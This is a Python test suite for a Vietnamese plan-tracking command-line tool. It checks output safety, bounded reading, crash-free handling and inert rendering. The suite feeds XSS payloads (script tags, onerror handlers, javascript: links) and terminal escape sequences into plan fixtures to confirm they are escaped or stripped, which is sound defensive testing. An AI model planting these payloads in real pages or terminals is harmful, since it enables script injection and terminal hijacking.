"""Hostile input and hostile places: outputs never destroy, reading is bounded, nothing
crashes, the output is inert, templates from elsewhere run no code, writes clean up.

Each test pins a behaviour a user would notice: the exit code (0 fine, 1 the work failed,
2 the command was used wrongly or the input refused, never 3 = internal error), a file left
as it was, no traceback, the bytes written. Where a hang, a crash by signal or the raw
terminal bytes must be seen, the command runs as a subprocess with a timeout (a safety net,
not a time limit); the one time limit asked for is on the text checks (section 2).
"""

from __future__ import annotations

import difflib
import os
import re
import select
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from plans_for_tests import plan_yaml, task_yaml

ROOT = Path(__file__).resolve().parent.parent
PLAN = ROOT / "plans" / "2021.yaml"
DEMO = ROOT / "examples" / "demo.yaml"
TIMEOUT = 20  # seconds: a safety net against a hang, never a time limit
CRASH_WORDS = ("Traceback", "internal error", "lỗi nội bộ")


# ---------------------------------------------------------------- helpers


def small_plan(title: str = "Việc một", body_name: str = "Ban A") -> str:
    """A valid plan: one dated task (t, due 2021-06-30) and one quarterly duty (u)."""
    bodies = f"  - {{id: a, name: {body_name}, kind: party}}\n"
    return plan_yaml(task_yaml("t", deadline="2021-06-30", title=title),
                     task_yaml("u", deadline="{every: quarter}"), bodies=bodies)


def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return path


def line_of(text: str, needle: str, nth: int = 1) -> int:
    """The 1-based line of the nth line of `text` holding `needle`."""
    hits = [i for i, line in enumerate(text.split("\n"), 1) if needle in line]
    assert len(hits) >= nth, f"{needle!r} not found {nth} times"
    return hits[nth - 1]


def env_for(extra: dict[str, str] | None = None) -> dict[str, str]:
    env = dict(os.environ)
    env.pop("KEHOACH_LANG", None)
    env.pop("KEHOACH_PLAN", None)
    env.pop("KEHOACH_DEBUG", None)
    env["KEHOACH_NO_CACHE"] = "1"
    env["SOURCE_DATE_EPOCH"] = "1633392000"  # one time of writing for every run: outputs compare
    env.update(extra or {})
    return env


def kh(*args, env: dict[str, str] | None = None, timeout: float = TIMEOUT, stdout=subprocess.PIPE,
       cwd: Path | None = None, preexec_fn=None) -> subprocess.CompletedProcess:
    """`kehoach ARGS` as a subprocess; a hang fails the test (rather than waiting forever)."""
    try:
        return subprocess.run(
            [sys.executable, "-m", "kehoach", *(str(a) for a in args)],
            stdin=subprocess.DEVNULL, stdout=stdout, stderr=subprocess.PIPE, env=env_for(env),
            timeout=timeout, cwd=cwd, preexec_fn=preexec_fn,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"kehoach {' '.join(map(str, args))}: no exit within {timeout} s (hangs)")


def text_of(proc: subprocess.CompletedProcess) -> str:
    out = proc.stdout.decode("utf-8", "replace") if isinstance(proc.stdout, bytes) else ""
    return out + proc.stderr.decode("utf-8", "replace")


def assert_no_crash(proc: subprocess.CompletedProcess, codes=(0, 1, 2)) -> str:
    """Exit 0, 1 or 2 (not 3, not killed by a signal), no traceback, no internal error."""
    both = text_of(proc)
    for word in CRASH_WORDS:
        assert word not in both, f"exit {proc.returncode}: {both[-800:]}"
    assert proc.returncode in codes, f"exit {proc.returncode}: {both[-800:]}"
    return both


@pytest.fixture
def demo_copy(tmp_path) -> Path:
    return write(tmp_path / "plan.yaml", DEMO.read_bytes())


def run_in_terminal(tmp_path: Path, *args, columns: int = 200, env: dict[str, str] | None = None
                    ) -> tuple[int, bytes, str]:
    """`kehoach ARGS` with standard output a terminal (a pseudo-terminal `columns` wide):
    (exit code, the raw bytes the terminal received, stderr)."""
    import fcntl
    import struct
    import termios

    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, columns, 0, 0))
    err_path = tmp_path / "terminal-stderr.txt"
    with open(err_path, "wb") as err:
        proc = subprocess.Popen(
            [sys.executable, "-m", "kehoach", *(str(a) for a in args)],
            stdin=subprocess.DEVNULL, stdout=slave, stderr=err,
            env=env_for({"COLUMNS": str(columns), "LINES": "50", "TERM": "xterm-256color", **(env or {})}),
        )
    os.close(slave)
    chunks: list[bytes] = []
    deadline = time.monotonic() + TIMEOUT
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if ready:
                try:
                    data = os.read(master, 65536)
                except OSError:  # EIO: the other end closed
                    break
                if not data:
                    break
                chunks.append(data)
            elif proc.poll() is not None:
                break
        else:
            proc.kill()
            proc.wait()
            pytest.fail(f"kehoach {' '.join(map(str, args))}: no exit within {TIMEOUT} s (hangs)")
        code = proc.wait(timeout=TIMEOUT)
    finally:
        os.close(master)
    return code, b"".join(chunks), err_path.read_text(encoding="utf-8", errors="replace")


# ================================================================ 1. outputs never destroy

# Each document command with its options; `-p PLAN -o TARGET` is added.
OUT_COMMANDS = {
    "report": ["report", "--period", "Q2", "-f", "md"],
    "calendar": ["calendar"],
    "checklist": ["checklist", "--as-of", "2021-07-01"],
    "status": ["status", "--format", "markdown", "--as-of", "2021-07-01"],
}


@pytest.mark.parametrize("name", list(OUT_COMMANDS))
def test_output_onto_the_plan_itself_is_refused(name, demo_copy, kehoach):
    before = demo_copy.read_bytes()
    code, _, err = kehoach(*OUT_COMMANDS[name], "-p", demo_copy, "-o", demo_copy)
    assert code == 2, err
    assert demo_copy.read_bytes() == before


@pytest.mark.parametrize("name", list(OUT_COMMANDS))
def test_output_onto_the_plan_by_another_path_is_refused(name, demo_copy, kehoach, tmp_path):
    """The same file named another way (./x/../plan.yaml) is still the plan."""
    (tmp_path / "x").mkdir()
    before = demo_copy.read_bytes()
    code, _, err = kehoach(*OUT_COMMANDS[name], "-p", demo_copy, "-o", tmp_path / "x" / ".." / "plan.yaml")
    assert code == 2, err
    assert demo_copy.read_bytes() == before


@pytest.mark.parametrize("name", list(OUT_COMMANDS))
def test_output_onto_another_plan_is_refused(name, demo_copy, kehoach, tmp_path):
    """`-o 2022.yaml` beside the plan read (a slip of the keyboard): an existing YAML file is never
    replaced by a document; a new .yaml name is the user's choice."""
    other = write(tmp_path / "2022.yaml", small_plan())
    before = other.read_bytes()
    code, _, err = kehoach(*OUT_COMMANDS[name], "-p", demo_copy, "-o", other)
    assert code == 2, err
    assert "2022.yaml" in err
    assert other.read_bytes() == before


@pytest.mark.parametrize("name", list(OUT_COMMANDS))
def test_output_onto_a_fifo_is_refused_at_once(name, demo_copy, tmp_path):
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    proc = kh(*OUT_COMMANDS[name], "-p", demo_copy, "-o", fifo)  # no reader: writing would block
    assert_no_crash(proc, codes=(2,))
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


@pytest.mark.parametrize("name", list(OUT_COMMANDS))
def test_output_onto_dev_null_is_refused(name, demo_copy):
    proc = kh(*OUT_COMMANDS[name], "-p", demo_copy, "-o", "/dev/null")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode), "/dev/null is no longer a device"
    assert_no_crash(proc, codes=(2,))


@pytest.mark.parametrize("name", list(OUT_COMMANDS))
def test_output_into_a_git_folder_is_refused(name, demo_copy, tmp_path, kehoach):
    config = write(tmp_path / "repo" / ".git" / "config", "[core]\n\trepositoryformatversion = 0\n")
    before = config.read_bytes()
    code, _, err = kehoach(*OUT_COMMANDS[name], "-p", demo_copy, "-o", config)
    assert code == 2, err
    assert config.read_bytes() == before
    assert sorted(p.name for p in config.parent.iterdir()) == ["config"]


def test_calendar_output_onto_a_folder_writes_into_it_never_over_it(demo_copy, tmp_path, kehoach):
    """A single-file command given a folder: the folder is never replaced by a file, nor anything in
    it touched; the calendar is a file of its own in it (as the help says -o takes a folder)."""
    folder = tmp_path / "lich"
    write(folder / "keep.txt", "giữ lại")
    code, _, err = kehoach("calendar", "-p", demo_copy, "-o", folder)
    assert code == 0, err
    assert folder.is_dir() and sorted(p.name for p in folder.iterdir()) == ["dv-demo-2021-lich.ics", "keep.txt"]
    assert (folder / "keep.txt").read_text(encoding="utf-8") == "giữ lại"
    assert (folder / "dv-demo-2021-lich.ics").read_text(encoding="utf-8").startswith("BEGIN:VCALENDAR")


@pytest.mark.slow  # a second or more: CI runs it (.ci/run); -m 'not slow' stays well under 3 minutes
@pytest.mark.parametrize("target", ["-", "/dev/stdout"])
@pytest.mark.parametrize("name", list(OUT_COMMANDS))
def test_output_to_standard_output(name, target, demo_copy, tmp_path):
    proc = kh(*OUT_COMMANDS[name], "-p", demo_copy, "-o", target)
    assert_no_crash(proc, codes=(0,))
    assert len(proc.stdout) > 100
    reference = tmp_path / "ref.out"
    assert kh(*OUT_COMMANDS[name], "-p", demo_copy, "-o", reference).returncode == 0
    assert proc.stdout == reference.read_bytes()  # the document itself, on standard output


@pytest.mark.parametrize("args", [
    ["status", "--as-of", "2021-07-01"],
    ["report", "--period", "Q2", "-o", "-"],
], ids=["status", "report"])
def test_standard_output_full_is_a_clear_error(args, demo_copy):
    with open("/dev/full", "w") as full:
        proc = kh(*args, "-p", demo_copy, stdout=full)
    err = proc.stderr.decode("utf-8", "replace")
    assert_no_crash(proc, codes=(2,))
    assert err.strip(), "no message on stderr"


@pytest.fixture
def large_plan(tmp_path) -> Path:
    """A valid plan whose documents are far bigger than a pipe's buffer (64 KiB)."""
    tasks = [task_yaml(f"t{i}", deadline="2021-06-30", title=f"Nhiệm vụ số {i} " + "rất dài " * 30)
             for i in range(400)]
    return write(tmp_path / "large.yaml", plan_yaml(*tasks))


@pytest.mark.parametrize("args", [
    ["report", "--period", "Q2", "-o", "-"],
    ["status", "--as-of", "2021-07-01"],
    ["status", "--as-of", "2021-07-01", "-f", "markdown"],
], ids=["report", "status-table", "status-markdown"])
@pytest.mark.slow  # about half a second or more here: CI runs it (.ci/run)
def test_a_pipe_closed_early_is_no_error(args, large_plan, tmp_path):
    """`kehoach … | head -c 10`: quiet, exit 0 or 2; no traceback, no BrokenPipeError."""
    err_path = tmp_path / "stderr.txt"
    with open(err_path, "wb") as err:
        proc = subprocess.Popen([sys.executable, "-m", "kehoach", *args, "-p", str(large_plan)],
                                stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=err, env=env_for())
    try:
        assert len(proc.stdout.read(10)) == 10
        proc.stdout.close()
        code = proc.wait(timeout=TIMEOUT)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()
        pytest.fail("no exit within the timeout after the reader went away")
    err = err_path.read_text(encoding="utf-8", errors="replace")
    assert "Traceback" not in err and "BrokenPipe" not in err, err
    assert "internal error" not in err and "lỗi nội bộ" not in err, err
    assert code in (0, 2), f"exit {code}: {err}"


# ================================================================ 2. bounded reading


def _limit_memory():  # pragma: no cover - runs in the child
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))


def test_check_dev_zero_is_refused_with_bounded_memory():
    proc = kh("check", "/dev/zero", preexec_fn=_limit_memory)
    assert proc.returncode >= 0, f"killed by signal {-proc.returncode}"
    assert_no_crash(proc, codes=(2,))
    assert "/dev/zero" in proc.stderr.decode("utf-8", "replace") + proc.stdout.decode("utf-8", "replace")


@pytest.mark.parametrize("how", ["check", "status-p", "KEHOACH_PLAN"])
def test_a_fifo_as_the_plan_is_refused_at_once(how, tmp_path):
    fifo = tmp_path / "plan.yaml"
    os.mkfifo(fifo)
    if how == "check":
        proc = kh("check", fifo, cwd=tmp_path)
    elif how == "status-p":
        proc = kh("status", "-p", fifo, cwd=tmp_path)
    else:
        proc = kh("status", env={"KEHOACH_PLAN": str(fifo)}, cwd=tmp_path)
    assert_no_crash(proc, codes=(2,))
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


@pytest.fixture
def five_kb_plan(tmp_path) -> Path:
    tasks = [task_yaml(f"t{i}", deadline="2021-06-30", title=f"Nhiệm vụ số {i} của kế hoạch thử")
             for i in range(60)]
    text = plan_yaml(*tasks)
    assert 5000 <= len(text.encode("utf-8")) < 10000
    return write(tmp_path / "plan.yaml", text)


@pytest.mark.parametrize("args", [["check"], ["status", "--as-of", "2021-07-01", "-p"]], ids=["check", "status"])
def test_a_plan_above_the_size_limit_is_refused(args, five_kb_plan):
    size = five_kb_plan.stat().st_size
    proc = kh(*args, five_kb_plan, env={"KEHOACH_MAX_BYTES": "1000"})
    both = assert_no_crash(proc, codes=(2,))
    assert re.search(rf"1000|1[.,\s]?000|1 ?KB|1 ?KiB|{size}|KEHOACH_MAX_BYTES", both), both
    ok = kh(*args, five_kb_plan)
    assert_no_crash(ok, codes=(0,))


NESTED = {
    "flow-sequences": "a: " + "[" * 30000 + "]" * 30000 + "\n",
    "flow-mappings": "a: " + "{a: " * 30000 + "1" + "}" * 30000 + "\n",
    "block-sequences-one-line": "- " * 30000 + "x\n",
    "block-sequences-1000-lines": "".join("  " * i + "-\n" for i in range(1000)) + "  " * 1000 + "- x\n",
    "block-mappings-1000-lines": "".join("  " * i + f"k{i}:\n" for i in range(1000)) + "  " * 1000 + "x: 1\n",
}


def _nesting_cases():
    """(command, shape) for each command and shape. Reading 30,000 flow brackets takes seconds:
    one flow shape stays in the everyday run (`-m "not slow"`), the other three run with the slow
    tests (bracket and brace are counted alike, and check and status read a plan alike)."""
    for shape in NESTED:
        for command in ("check", "status"):
            slow = shape.startswith("flow-") and (command, shape) != ("check", "flow-sequences")
            yield pytest.param(command, shape, id=f"{command}-{shape}", marks=[pytest.mark.slow] if slow else [])


@pytest.mark.slow  # a second or more: CI runs it (.ci/run); -m 'not slow' stays well under 3 minutes
@pytest.mark.parametrize("command, shape", list(_nesting_cases()))
def test_deep_nesting_is_an_error_not_a_crash(shape, command, tmp_path):
    path = write(tmp_path / "deep.yaml", NESTED[shape])
    proc = kh(*(["check", path] if command == "check" else ["status", "-p", path]))
    assert proc.returncode >= 0, f"killed by signal {-proc.returncode} (crash)"
    both = assert_no_crash(proc, codes=(1, 2))
    assert re.search(r"deep\.yaml:\d+:", both), both  # located in the file


@pytest.mark.slow
def test_200000_unknown_keys_give_a_capped_list(tmp_path):
    keys = "".join(f"zz{i}: 1\n" for i in range(200_000))
    path = write(tmp_path / "many.yaml", small_plan().replace("tasks:\n", keys + "tasks:\n", 1))
    proc = kh("check", path, timeout=30)
    both = assert_no_crash(proc, codes=(1,))
    lines = both.splitlines()
    assert len(lines) < 1000, f"{len(lines)} lines of diagnostics"
    numbers = [int(re.sub(r"\D", "", n)) for n in re.findall(r"\d[\d.,\u00a0\u202f ]*\d|\d", both)]
    assert any(n >= 199_000 for n in numbers), "the rest is not counted: " + "\n".join(lines[-3:])


def _text_checks():
    """Every function of textutil and checks that looks at a string, as (name, call)."""
    from kehoach.base import text as textutil
    from kehoach.plan import checks

    named = {
        "textutil.nfc": lambda s: textutil.nfc(s),
        "textutil.fold": lambda s: textutil.fold(s),
        "textutil.vi_sort_key": lambda s: textutil.vi_sort_key(s),
        "textutil.lower_first": lambda s: textutil.lower_first(s),
        "textutil.legacy_encoding": lambda s: textutil.legacy_encoding(s),
        "textutil.suggest": lambda s: textutil.suggest(s, ["so-noi-vu", "bdvtu", "Sở Nội vụ", s[:64]]),
        "checks.check_text": lambda s: checks.check_text({"plan": {"title": s}}),
        "checks.check_to_fill": lambda s: checks.check_to_fill({"plan": {"title": s}}),
    }
    return named


LONG_WORDS = {
    "ae-then-N-tilde": ("aé" * 500_000)[:-1] + "Ñ",
    "tcvn3-and-latin": "¸a" * 500_000,
    "vni-marks": "Ña" * 500_000,
    "tcvn3-only": "¸" * 1_000_000,
    "tcvn3-one-letter-words": "¸ " * 500_000,  # a million characters in half a million tiny words
}


@pytest.mark.slow  # a second or more: CI runs it (.ci/run); -m 'not slow' stays well under 3 minutes
@pytest.mark.parametrize("word", list(LONG_WORDS))
@pytest.mark.parametrize("check", list(_text_checks()))
def test_every_text_check_is_linear(check, word):
    import signal

    call = _text_checks()[check]
    text = LONG_WORDS[word]

    class TooSlow(Exception):
        pass

    def alarm(signum, frame):
        raise TooSlow

    # A linear check takes about a second here on the slowest text, a quadratic one minutes (a
    # 100,000-character id took 209 s): the 10 s limit tells them apart even on a loaded CI
    # machine. An alarm stops a runaway check at 12 s, so that it fails fast.
    previous = signal.signal(signal.SIGALRM, alarm)
    signal.setitimer(signal.ITIMER_REAL, 12.0)
    start = time.perf_counter()
    try:
        call(text)
    except TooSlow:
        pass
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    took = time.perf_counter() - start
    assert took < 10.0, f"{check} took {took:.1f} s (stopped) on a 1,000,000-character text"


@pytest.mark.slow
@pytest.mark.parametrize("word", ["ae-then-N-tilde", "tcvn3-and-latin", "tcvn3-one-letter-words"])
def test_check_a_plan_with_a_one_megabyte_title(word, tmp_path):
    title = LONG_WORDS[word]
    path = write(tmp_path / "plan.yaml", small_plan(title='"' + title + '"'))
    assert_no_crash(kh("check", path), codes=(0, 1))


# ================================================================ 3. no internal errors


def test_a_title_with_a_newline_through_calendar(tmp_path):
    path = write(tmp_path / "plan.yaml", small_plan(title='"a\\nb"'))
    proc = kh("calendar", "-p", path, "-o", tmp_path / "x.ics")
    assert_no_crash(proc)


@pytest.mark.parametrize("args", [
    ["check"],
    ["status", "--as-of", "2021-07-01", "-p"],
    ["report", "--period", "Q2", "-o", "-", "-p"],
], ids=["check", "status", "report"])
def test_a_lone_surrogate_in_a_title(args, tmp_path):
    path = write(tmp_path / "plan.yaml", small_plan(title='"x\\ud800y"'))
    assert_no_crash(kh(*args, path))


def test_rich_markup_in_names_on_a_wide_terminal(tmp_path):
    path = write(tmp_path / "plan.yaml", small_plan(title='"[/] và [bold]x[/bold]"',
                                                     body_name='"Ban [/] A [bold]y[/bold]"'))
    code, out, err = run_in_terminal(tmp_path, "status", "-p", path, "--as-of", "2021-07-01",
                                     env={"NO_COLOR": "1"})
    text = out.decode("utf-8", "replace") + err
    for word in CRASH_WORDS:
        assert word not in text, text[-800:]
    assert code == 0, f"exit {code}: {text[-800:]}"
    assert "[bold]x[/bold]" in text and "[/]" in text  # shown as written


@pytest.mark.slow
def test_period_end_in_year_9999(tmp_path, run_check_cli):
    text = small_plan().replace("end: 2021-12-31", "end: 9999-12-31")
    path = write(tmp_path / "plan.yaml", text)
    code, out, err = run_check_cli(path)
    assert code == 1
    assert f"{path}:{line_of(text, '9999-12-31')}:" in out + err
    for args in (["report", "--period", "Y", "-o", "-"], ["calendar", "-o", "-"], ["status"]):
        assert_no_crash(kh(*args, "-p", path), codes=(1, 2))


def test_log_into_a_missing_folder_is_a_usage_error(kehoach):
    code, _, err = kehoach("log", "t", "-p", "/nonexistent/dir/x.yaml", "--percent", "5", "-m", "x",
                           "--date", "2021-03-01")
    assert code == 2, err
    assert "lỗi nội bộ" not in err and "internal error" not in err


def test_log_on_a_dangling_symlink_is_a_usage_error(tmp_path, kehoach):
    link = tmp_path / "plan.yaml"
    link.symlink_to(tmp_path / "gone.yaml")
    code, _, err = kehoach("log", "t", "-p", link, "--percent", "5", "-m", "x", "--date", "2021-03-01")
    assert code == 2, err
    assert link.is_symlink() and not (tmp_path / "gone.yaml").exists()


def test_a_recurring_period_that_does_not_exist(tmp_path, run_check_cli):
    text = small_plan().replace("{every: quarter}", "{every: quarter, periods: [Q9]}")
    path = write(tmp_path / "plan.yaml", text)
    code, out, err = run_check_cli(path)
    assert code == 1
    assert f"{path}:{line_of(text, 'Q9')}:" in out


def test_a_task_id_longer_than_64_characters(tmp_path, run_check_cli):
    long_id = "t" * 70
    text = small_plan().replace("- id: t\n", f"- id: {long_id}\n", 1)
    path = write(tmp_path / "plan.yaml", text)
    code, out, err = run_check_cli(path)
    assert code == 1
    assert f"{path}:{line_of(text, long_id)}:" in out
    assert "64" in out, out
    for wrong in ("must be text", "phải là chuỗi", "phải là văn bản"):
        assert wrong not in out, out


# ================================================================ 4. inert output

# YAML double-quoted: \r, \n, \e (ESC), \a (BEL), \x9b (C1 CSI) are escapes the reader turns into characters.
HOSTILE = (r"<script>alert(1)</script> <img src=x onerror=alert(1)> [click](javascript:alert(1)) "
           r"a\rb c\nd e|f \e]0;pwned\a \e[2J \a \x9b [link=https://evil.example]x[/link] z")
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\r")


@pytest.fixture
def hostile_demo(tmp_path) -> Path:
    """examples/demo.yaml with hostile text in a task title (II.1.a), a body's name and short
    name (so-noi-vu) and a progress note (II.1.a's first)."""
    text = DEMO.read_text(encoding="utf-8")
    swaps = [
        ("title: Hội nghị quán triệt Chương trình phối hợp số 18-CTr và Kết luận số 120-KL/TW",
         f'title: "T {HOSTILE}"'),
        ("    name: Sở Nội vụ\n    short: SNV\n", f'    name: "B {HOSTILE}"\n    short: "S {HOSTILE}"\n'),
        ("            note: >-\n              Ban hành Kế hoạch tổ chức hội nghị quán triệt; phân công 6 báo cáo\n"
         "              viên cho 3 huyện, thành phố.\n", f'            note: "N {HOSTILE}"\n'),
    ]
    for old, new in swaps:
        assert text.count(old) == 1, f"demo.yaml changed: {old[:40]!r}"
        text = text.replace(old, new)
    return write(tmp_path / "hostile.yaml", text)


def _live(text: str, token: str) -> list[int]:
    """Offsets where `token` stands unescaped (not after an odd number of backslashes)."""
    hits = []
    for m in re.finditer(re.escape(token), text):
        slashes = len(text[: m.start()]) - len(text[: m.start()].rstrip("\\"))
        if slashes % 2 == 0:
            hits.append(m.start())
    return hits


def _assert_inert_markdown(md: str, clean: str) -> None:
    assert "alert(1)" in md, "the hostile text is not shown at all"
    for token in ("<script", "<img", "](javascript:"):
        assert not _live(md, token), f"live {token!r} in the Markdown"
    rows = [line for line in md.splitlines() if line.startswith("|")]
    clean_rows = [line for line in clean.splitlines() if line.startswith("|")]
    assert len(rows) == len(clean_rows), "a table row was broken over lines"
    broken = [row for row in rows if not row.rstrip().endswith("|")]
    assert not broken, f"a table row was broken over lines: {broken[0][:120]!r}"


MD_COMMANDS = {
    "status": ["status", "--format", "markdown", "--as-of", "2021-07-01", "-o", "-"],
    "report": ["report", "--period", "Y", "-f", "md", "-o", "-"],
}


@pytest.mark.slow  # a second or more: CI runs it (.ci/run); -m 'not slow' stays well under 3 minutes
@pytest.mark.parametrize("name", list(MD_COMMANDS))
def test_markdown_output_is_inert(name, hostile_demo, demo_copy):
    hostile = kh(*MD_COMMANDS[name], "-p", hostile_demo)
    clean = kh(*MD_COMMANDS[name], "-p", demo_copy)
    assert_no_crash(hostile, codes=(0,))
    _assert_inert_markdown(hostile.stdout.decode("utf-8"), clean.stdout.decode("utf-8"))


@pytest.mark.parametrize("name", list(MD_COMMANDS))
def test_markdown_output_carries_no_control_characters(name, hostile_demo):
    """A .md is read in a terminal too (cat, less): no ESC, BEL, C1 or bare CR from plan text."""
    proc = kh(*MD_COMMANDS[name], "-p", hostile_demo)
    assert_no_crash(proc, codes=(0,))
    md = proc.stdout.decode("utf-8")
    found = sorted({f"U+{ord(c):04X}" for c in md if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0})
    assert not found, found


def test_html_report_is_inert_and_forbids_scripts(hostile_demo, tmp_path):
    out = tmp_path / "r.html"
    assert_no_crash(kh("report", "-p", hostile_demo, "--period", "Y", "-f", "html", "-o", out), codes=(0,))
    page = out.read_text(encoding="utf-8")
    assert "alert(1)" in page
    assert "<script" not in page.lower()  # the page has no scripts at all
    assert "<img src=x" not in page.lower()
    assert not re.search(r"""href\s*=\s*["']?\s*javascript:""", page, re.I)
    meta = re.search(r"""<meta[^>]+http-equiv=["']Content-Security-Policy["'][^>]*content=(?:"([^"]*)"|'([^']*)')""",
                     page, re.I)
    assert meta, "no Content-Security-Policy meta"
    content = meta.group(1) if meta.group(1) is not None else meta.group(2)
    policy = {p.split()[0]: p.split()[1:] for p in (x.strip() for x in content.split(";")) if p}
    if "script-src" in policy:
        assert policy["script-src"] == ["'none'"], policy
    else:
        assert policy.get("default-src") == ["'none'"], policy


def _raw_controls(text: str) -> list[str]:
    return sorted({f"U+{ord(c):04X}" for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0
                   or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"})


JSON_COMMANDS = {
    "status": ["status", "--format", "json", "--as-of", "2021-07-01"],
    "export": ["export", "-f", "json", "--as-of", "2021-07-01", "-o", "-"],
    "report": ["report", "--period", "Q2", "-f", "json", "-o", "-"],
    "checklist": ["checklist", "-f", "json", "--as-of", "2021-07-01", "-o", "-"],
}


@pytest.mark.parametrize("name", list(JSON_COMMANDS))
def test_json_output_escapes_control_characters(name, hostile_demo):
    """JSON is read in terminals and editors too: C1 controls (CSI), DEL and reordering marks,
    which json.dumps leaves raw, come out as \\u escapes; the data is the same."""
    import json

    proc = kh(*JSON_COMMANDS[name], "-p", hostile_demo)
    assert_no_crash(proc, codes=(0,))
    out = proc.stdout.decode("utf-8")
    assert not _raw_controls(out), _raw_controls(out)
    assert "\x9b" in json.dumps(json.loads(out), ensure_ascii=False), "the hostile text is not in the data"


@pytest.mark.parametrize("fmt", ["text", "json", "markdown"])
def test_diff_shows_plan_text_inert(fmt, hostile_demo, demo_copy):
    proc = kh("diff", demo_copy, hostile_demo, "--format", fmt)
    out = assert_no_crash(proc, codes=(0,))
    assert "alert(1)" in out
    assert not _raw_controls(out), _raw_controls(out)
    if fmt == "text":  # one change, one line: the hostile text is never broken over lines
        lines = proc.stdout.decode("utf-8").splitlines()
        assert [line for line in lines if "<script>" in line] == [line for line in lines if "[/link] z" in line]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_spreadsheet_export_of_hostile_text(fmt, hostile_demo, tmp_path):
    """Control characters in plan text: .xlsx cannot hold them (openpyxl raised, exit 3) and a
    CSV shown in a terminal would act on them; both come out without them, the text kept."""
    out = tmp_path / f"tasks.{fmt}"
    assert_no_crash(kh("export", "-p", hostile_demo, "--as-of", "2021-07-01", "-o", out), codes=(0,))
    if fmt == "xlsx":
        import openpyxl

        sheet = openpyxl.load_workbook(out).active
        cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    else:
        cells = [out.read_text(encoding="utf-8-sig")]
    text = "\n".join(cells)
    assert "alert(1)" in text
    for ch in RAW_CONTROLS:
        assert ch not in text, f"raw U+{ord(ch):04X} in the {fmt}"


def test_status_on_a_terminal_shows_plan_text_inert(hostile_demo, tmp_path):
    code, out, err = run_in_terminal(tmp_path, "status", "-p", hostile_demo, "--as-of", "2021-07-01",
                                     env={"NO_COLOR": "1"})
    assert code == 0, err
    text = out.decode("utf-8", "replace")
    assert "alert(1)" in text
    assert "\x1b]8;" not in text, "an OSC 8 hyperlink"
    for ch in ("\x1b", "\x07", "\x9b"):
        assert ch not in text, f"raw U+{ord(ch):04X} reached the terminal"
    assert "[link=" in text  # Rich markup in plan text shown as written


def test_a_git_conflict_left_in_the_plan_is_named(tmp_path, run_check_cli):
    """A merge that stopped on a conflict leaves its markers in the plan: said as such, at each
    marker's line, not as the YAML error they cause."""
    text = small_plan()
    at = text.index("  - id: u")
    text = text[:at] + "<<<<<<< HEAD\n" + text[at:] + "=======\n  - id: v\n>>>>>>> ban-a\n"
    path = write(tmp_path / "plan.yaml", text)
    code, out, err = run_check_cli(path)
    assert code == 1
    for marker in ("<<<<<<< HEAD", "=======", ">>>>>>> ban-a"):
        assert f"{path}:{line_of(text, marker)}:1: lỗi:" in out and "[merge-conflict]" in out, out
    assert "yaml-syntax" not in out


def test_check_diagnostics_stay_one_line_each(tmp_path, run_check_cli):
    text = small_plan().replace("lead: [a]\n    deadline: 2021-06-30",
                                'lead: ["x\\ny\\e[2J"]\n    deadline: 2021-06-30')
    path = write(tmp_path / "plan.yaml", text)
    code, out, err = run_check_cli(path)
    assert code == 1
    located = re.compile(rf"^{re.escape(str(path))}:\d+:\d+: ")
    lines = [line for line in out.split("\n") if line.strip()]
    assert any(located.match(line) for line in lines)
    summary = lines[-1]
    stray = [line for line in lines[:-1] if not located.match(line) and not line[:1].isspace()]
    assert not stray, f"a diagnostic broken over lines: {stray} (summary: {summary})"
    assert "\x1b" not in out + err, "a raw ESC from the plan in the diagnostics"


def _document_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("word/document.xml").decode("utf-8")


@pytest.mark.slow  # a second or more: CI runs it (.ci/run); -m 'not slow' stays well under 3 minutes


def test_docx_report_takes_no_layout_from_control_characters(tmp_path):
    plain = write(tmp_path / "a" / "plan.yaml", small_plan(title='"Việc một hai ba bốn"'))
    tricky = write(tmp_path / "b" / "plan.yaml", small_plan(title='"Việc\\a một\\f hai\\v ba\\x01 bốn"'))
    for plan in (plain, tricky):
        assert_no_crash(kh("report", "-p", plan, "--period", "Q2", "-f", "docx", "-o", plan.parent / "r.docx"),
                        codes=(0,))
    clean, dirty = _document_xml(plain.parent / "r.docx"), _document_xml(tricky.parent / "r.docx")
    for ch in "\x07\x0c\x0b\x01":
        assert ch not in dirty, f"U+{ord(ch):04X} in document.xml"
    page = re.compile(r"""<w:br\b[^>]*w:type=["']page["']""")
    assert len(page.findall(dirty)) == len(page.findall(clean)), "a page break came from the title"
    para = re.compile(r"<w:p[ >]")
    assert len(para.findall(dirty)) == len(para.findall(clean)), "a paragraph came from the title"


@pytest.mark.parametrize("fmt", ["md", "docx"])
def test_a_line_break_pasted_from_word_keeps_the_words_apart(fmt, tmp_path):
    """Word's manual line break (Shift+Enter) pastes as \\v; a form feed or NEL from old files:
    taken out of documents, but as a space, never gluing two words into one."""
    path = write(tmp_path / "plan.yaml", small_plan(title='"Hội nghị\\vquán triệt\\fChương trình\\Nsố 18"'))
    out = tmp_path / f"r.{fmt}"
    assert_no_crash(kh("report", "-p", path, "--period", "Q2", "-f", fmt, "-o", out), codes=(0,))
    text = _document_xml(out) if fmt == "docx" else out.read_text(encoding="utf-8")
